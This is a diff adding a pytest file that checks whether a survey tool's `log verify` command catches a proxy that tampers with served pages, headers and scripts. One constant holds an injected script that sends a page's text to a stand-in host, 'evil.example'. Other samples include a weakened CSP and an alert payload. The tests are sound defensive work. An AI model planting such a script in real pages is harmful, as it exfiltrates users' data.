@@ -1,0 +1,131 @@
+"""A host, or whoever stands before it, that sends phones other pages than are logged is named by `sotto log verify`."""
+
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+
+import brotli
+import pytest
+from click.testing import CliRunner
+from hosts.applications import respond_app
+from hosts.evil_proxy import Change, EvilProxy, Reply, evil
+from hosts.threaded_server import answering
+from studies.plain_study import STUDY, fresh
+from werkzeug.serving import make_server
+
+from survey.commands.main import main
+from survey.public_log import log_events
+from survey.publication.frontend_files import load_assets
+from survey.respond_app.served_pages import StudyPages
+from survey.respond_app.settings import RespondSettings
+from survey.settings import Settings
+from survey.wave.manifest import Manifest
+
+EVIL = b"<script>fetch('//evil.example/'+document.body.innerText)</script>"
+CSP = "Content-Security-Policy"
+MAIN = f"/static/{load_assets().main}"
+
+
+def logged(settings: Settings, manifest: Manifest) -> None:
+    """Log the wave as staff commands do."""
+    known = RespondSettings(settings.answers_url, settings.public, settings.work_key, settings.hosts)
+    log_events.wave_opened(settings, manifest, b"a drill")
+    files = log_events.frontend_served(settings, STUDY, 1)
+    log_events.pages_served(settings, STUDY, 1, StudyPages(known).document(STUDY, 1, files).to_bytes())
+
+
+@pytest.fixture(scope="module")
+def proxy(tmp_path_factory) -> Iterator[tuple[EvilProxy, str]]:
+    """A host of a study with a plain form, on a server of its own, behind a proxy."""
+    host = fresh(tmp_path_factory.mktemp("evil"))
+    logged(host.settings, host.manifest)
+    app = respond_app(host.settings)
+    server = make_server("127.0.0.1", 0, app, threaded=True)
+    with answering(server, app.extensions["sotto"].engine) as origin, evil(origin) as behind:
+        yield behind
+
+
+def verified(url: str) -> tuple[int, str]:
+    result = CliRunner().invoke(main, ["log", "verify", url])
+    return result.exit_code, result.output
+
+
+def at(path: str, change: Change) -> Change:
+    """Return the change of one path."""
+    return lambda reply: change(reply) if reply.path == path else reply
+
+
+def body(content: bytes) -> Change:
+    """Return the change of a body, sent as it is."""
+    return lambda reply: replace(reply.without("Content-Encoding"), body=content)
+
+
+def scripted(reply: Reply) -> Reply:
+    """Put a script into a page, compressed again where it was."""
+    packed = ("Content-Encoding", "br") in reply.lines
+    page = (brotli.decompress(reply.body) if packed else reply.body).replace(b"</head>", EVIL + b"</head>")
+    return replace(reply, body=brotli.compress(page) if packed else page)
+
+
+def header(value: str) -> Change:
+    return lambda reply: reply.without(CSP).having((CSP, value))
+
+
+@dataclass(frozen=True)
+class Evil:
+    """What a host does, and what the check then says."""
+
+    name: str
+    change: Change
+    said: str
+
+
+S, F = f"/s/{STUDY}", f"/f/{STUDY}"
+OTHER = "is another page than the log says"
+PAGES = (
+    S, f"/w/{STUDY}", f"/c/{STUDY}", f"/c/{STUDY}?lang=zh-Hant", f"/k/{STUDY}", f"/k/{STUDY}/sw.js",
+    f"/k/{STUDY}/app.webmanifest", F, f"{F}?lang=zh-Hans", "/blank",
+)  # fmt: skip
+EVILS = [
+    *(Evil(f"another {path}", at(path, body(b"<p>Trust us.")), f"{path}, asked for as a phone does, {OTHER}")
+      for path in PAGES),
+    Evil("an inline script", at(S, scripted), f"{S}, asked for as a phone does, {OTHER}"),
+    Evil("a script for phones alone", at(S, lambda one: scripted(one) if one.by_phone else one),
+         f"{S}, asked for as a phone does, {OTHER}"),
+    Evil("a script for others alone", at(S, lambda one: one if one.by_phone else scripted(one)),
+         f"{S}, asked for without a phone's headers, {OTHER}"),
+    Evil("a header dropped", at(S, lambda one: one.without(CSP)), f"lacks the header {CSP.lower()}"),
+    Evil("a header changed", at(S, header("default-src *")), f"has 'default-src *' in its header {CSP.lower()}"),
+    Evil("a header added", at(S, lambda one: one.having(("Link", "</x.js>; rel=preload; as=script"))),
+         "has the header 'link', which the log does not name"),
+    Evil("a header twice", at(S, lambda one: one.having(("Permissions-Policy", "camera=*"))),
+         "in its header permissions-policy"),
+    Evil("a header on the worker alone", at(f"/k/{STUDY}/sw.js", lambda one: one.having(("X-A", "\x1b[2J"))),
+         "has the header 'x-a'"),
+    Evil("a cookie", at("/blank", lambda one: one.having(("Set-Cookie", "a=b"))), "has the header 'set-cookie'"),
+    Evil("an ETag, which knows its reader again", at(S, lambda one: one.having(("ETag", '"7"'))),
+         "has the header 'etag'"),
+    Evil("a redirect", at(S, lambda one: replace(one, status=302).having(("Location", "/blank"))),
+         f"{S}, asked for as a phone does, answers 302"),
+    Evil("a page taken away", at(f"/w/{STUDY}", lambda one: replace(one, status=404)), "answers 404 where the log has"),
+    Evil("another script", at(MAIN, body(b"alert(1)")), f"{MAIN}, asked for as a phone does, is another file"),
+    Evil("no script", at(MAIN, lambda one: replace(one, status=404)), f"{MAIN}, asked for as a phone does, answers"),
+    Evil("a page that names a script of its own", at(S, body(b'<script src="/static/evil.js"></script>')),
+         "/static/evil.js, asked for as a phone does, answers 404"),
+    Evil("a body of no encoding that was asked for", at(S, lambda one: one.having(("Content-Encoding", "zstd"))),
+         "in an encoding that was not asked for"),
+]  # fmt: skip
+
+
+def test_a_host_that_changes_nothing_is_named_for_nothing(proxy):
+    """Control: through the same proxy every page, header and file is as logged, and the check says what it compared."""
+    code, said = verified(proxy[1])
+    assert (0, True) == (code, f"compared as phones get them: {STUDY}, wave 1" in said), said
+
+
+@pytest.mark.parametrize("one", EVILS, ids=lambda one: one.name)
+def test_a_changed_page_header_or_script_is_named(proxy, one, monkeypatch):
+    """Each change is named with its path, and the check ends as for what does not hold."""
+    monkeypatch.setattr(proxy[0], "change", one.change)
+    code, said = verified(proxy[1])
+    assert (5, True) == (code, one.said in said), said
+    assert said.isprintable() or {"\n"} == {sign for sign in said if not sign.isprintable()}
